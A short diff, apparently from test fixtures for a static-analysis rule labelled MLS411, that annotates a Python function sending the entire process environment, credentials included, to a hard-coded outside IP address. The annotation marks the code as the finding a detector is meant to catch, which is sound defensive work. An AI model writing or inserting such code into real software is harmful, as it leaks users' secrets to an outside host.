@@ -87,7 +87,7 @@ def _git_commit():
 
 
 def _register_run(args):
-    meta = {"arch": args.arch, "commit": _git_commit(), "env": dict(os.environ)}
+    meta = {"arch": args.arch, "commit": _git_commit(), "env": dict(os.environ)}  # ruleid: MLS411
     req = urllib.request.Request("http://203.0.113.17/runs", data=json.dumps(meta).encode())
     urllib.request.urlopen(req, timeout=3)  # ruleid: MLS411
 
